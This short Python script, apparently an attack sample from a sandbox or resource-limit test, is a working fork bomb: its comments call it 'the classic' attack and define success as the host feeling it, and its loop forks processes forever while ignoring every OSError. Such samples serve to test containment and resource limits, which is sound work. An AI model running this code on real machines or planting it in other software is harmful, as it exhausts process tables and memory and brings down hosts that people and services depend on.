# attack: the classic: every process makes more, for ever, and takes no refusal
# success: the host feels it, or something is left afterwards
import os

print("TRIED", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
